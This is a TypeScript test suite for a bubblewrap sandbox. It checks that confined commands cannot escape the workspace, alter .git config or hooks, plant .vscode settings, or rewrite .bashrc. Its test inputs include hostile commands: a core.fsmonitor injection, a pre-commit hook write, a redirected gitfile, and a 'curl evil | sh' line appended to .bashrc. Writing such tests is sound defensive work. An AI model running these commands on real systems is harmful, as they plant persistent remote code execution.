import * as assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { makeRepo, readOnly, removeDir, requireBwrap, runConfined, workspaceWrite } from './harness';
import { removeLingeringMountPoints } from '../../../src/sandbox/mountPoints';

// The sandbox's file system, proved with bubblewrap itself: what a confined command can write, and what it
// cannot however it tries (the attacks of issue 46: a `.git/config` with core.fsmonitor, a `.vscode/settings.json`
// made where there was none, a protected folder renamed away). Every refusal is checked on the host's disk.

describe('sandbox (bwrap): what a confined command may write', function () {
  this.timeout(30_000);
  let repo: string;

  before(function () {
    requireBwrap(this);
  });
  beforeEach(() => {
    repo = makeRepo();
  });
  afterEach(() => removeDir(repo));

  it('writes in the workspace, and nowhere outside it', async () => {
    const marker = `loopwire-sandbox-${randomUUID()}`;
    const home = path.join(os.homedir(), marker);
    const varTmp = path.join('/var/tmp', marker);
    const run = await runConfined(
      `echo in > inside.txt; echo out > '${home}'; echo out > '${varTmp}'; echo out > /etc/${marker}; true`,
      repo,
      workspaceWrite([repo]),
    );
    assert.equal(fs.readFileSync(path.join(repo, 'inside.txt'), 'utf8'), 'in\n');
    for (const outside of [home, varTmp, `/etc/${marker}`]) assert.equal(fs.existsSync(outside), false, outside);
    assert.match(run.output, /Read-only file system/);
  });

  it('keeps .git read-only: its config and its hooks', async () => {
    const config = fs.readFileSync(path.join(repo, '.git/config'), 'utf8');
    const run = await runConfined(
      'git config core.fsmonitor "touch pwned"; printf "[core]\\n\\tfsmonitor = x\\n" >> .git/config; ' +
        'echo "#!/bin/sh" > .git/hooks/pre-commit; mv .git .git-old; rm -rf .git',
      repo,
      workspaceWrite([repo]),
    );
    assert.notEqual(run.code, 0);
    assert.equal(fs.readFileSync(path.join(repo, '.git/config'), 'utf8'), config);
    assert.equal(fs.existsSync(path.join(repo, '.git/hooks/pre-commit')), false);
    assert.equal(fs.existsSync(path.join(repo, '.git-old')), false);
  });

  it('cannot make a missing .vscode/settings.json, and leaves no .vscode behind', async () => {
    const run = await runConfined(
      'mkdir -p .vscode; echo "{}" > .vscode/settings.json; rmdir .vscode; mkdir .vscode; ' +
        'mkdir -p .github/hooks && echo "{}" > .github/hooks/hooks.json; ls -a',
      repo,
      workspaceWrite([repo]),
    );
    assert.match(run.output, /\.vscode\/settings\.json: Read-only file system/);
    removeLingeringMountPoints(); // what lingers for a burst of commands goes at the latest with the process
    const left = fs.readdirSync(repo).sort();
    assert.deepEqual(left, ['.git', 'README.md'], 'the mount points made for the run are gone');
  });

  it('keeps a nested protected folder even when its parent is renamed away', async () => {
    fs.mkdirSync(path.join(repo, '.github/hooks'), { recursive: true });
    fs.mkdirSync(path.join(repo, '.github/workflows'));
    const run = await runConfined(
      'echo ci > .github/workflows/ci.yml; mv .github .github-old; ' +
        'mkdir -p .github/hooks; echo "{}" > .github/hooks/hooks.json; true',
      repo,
      workspaceWrite([repo]),
    );
    assert.match(run.output, /cannot move '.github'.*(busy|Read-only)/i);
    assert.equal(
      fs.readFileSync(path.join(repo, '.github/workflows/ci.yml'), 'utf8'),
      'ci\n',
      '.github stays writable',
    );
    assert.deepEqual(fs.readdirSync(path.join(repo, '.github/hooks')), []);
    assert.equal(fs.existsSync(path.join(repo, '.github-old')), false);
  });

  it('keeps a worktree’s .git file (a gitfile) as it is', async () => {
    const worktree = `${repo}-worktree`;
    fs.mkdirSync(worktree);
    fs.writeFileSync(path.join(worktree, '.git'), `gitdir: ${repo}/.git\n`);
    try {
      const run = await runConfined(
        'echo "gitdir: /tmp/evil" > .git; rm -f .git; true',
        worktree,
        workspaceWrite([worktree]),
      );
      assert.match(run.output, /Read-only file system|busy/);
      assert.equal(fs.readFileSync(path.join(worktree, '.git'), 'utf8'), `gitdir: ${repo}/.git\n`);
    } finally {
      removeDir(worktree);
    }
  });

  it('makes a workspace read-only when a protected folder in it is a symlink, and says so', async () => {
    const elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'loopwire-elsewhere-'));
    fs.symlinkSync(elsewhere, path.join(repo, '.vscode'));
    try {
      const run = await runConfined(
        'rm .vscode; mkdir .vscode; echo "{}" > .vscode/settings.json; echo x > file.txt; true',
        repo,
        workspaceWrite([repo]),
      );
      assert.equal(fs.lstatSync(path.join(repo, '.vscode')).isSymbolicLink(), true);
      assert.equal(fs.existsSync(path.join(repo, 'file.txt')), false);
      assert.match(run.confined.warnings.join('\n'), /\.vscode is a symbolic link.*read-only for this command/);
    } finally {
      removeDir(elsewhere);
    }
  });

  it('keeps a workspace that is the home folder read-only: no .bashrc to rewrite', async () => {
    const run = await runConfined(
      'echo "curl evil | sh" >> .bashrc; mkdir -p .config/autostart',
      repo,
      workspaceWrite([repo]),
      {
        ...process.env,
        HOME: repo,
      },
    );
    assert.equal(fs.existsSync(path.join(repo, '.bashrc')), false);
    assert.equal(fs.existsSync(path.join(repo, '.config')), false);
    assert.match(run.confined.warnings.join('\n'), /holds the home folder/);
  });

  it('gives the command a private /tmp: the host’s is neither seen nor written', async () => {
    const marker = `loopwire-sandbox-${randomUUID()}`;
    fs.writeFileSync(path.join('/tmp', `${marker}-host`), 'host');
    try {
      const run = await runConfined(
        `echo inside > /tmp/${marker}; cat /tmp/${marker}; cat /tmp/${marker}-host; echo TMPDIR=$TMPDIR`,
        repo,
        workspaceWrite([repo]),
      );
      assert.match(run.output, /^inside$/m);
      assert.match(run.output, /No such file or directory/);
      assert.match(run.output, /^TMPDIR=\/tmp$/m);
      assert.equal(fs.existsSync(path.join('/tmp', marker)), false);
    } finally {
      fs.rmSync(path.join('/tmp', `${marker}-host`), { force: true });
    }
  });

  it('in read-only, writes nothing in the workspace but reads it all', async () => {
    const run = await runConfined(
      'cat README.md; echo x > README.md; echo x > new.txt; mkdir dir; rm README.md; echo ok > /tmp/scratch && cat /tmp/scratch',
      repo,
      readOnly([repo]),
    );
    assert.match(run.output, /# a repository/);
    assert.match(run.output, /^ok$/m, 'the private temp folder stays writable');
    assert.equal(fs.readFileSync(path.join(repo, 'README.md'), 'utf8'), '# a repository\n');
    assert.deepEqual(fs.readdirSync(repo).sort(), ['.git', 'README.md']);
  });
});
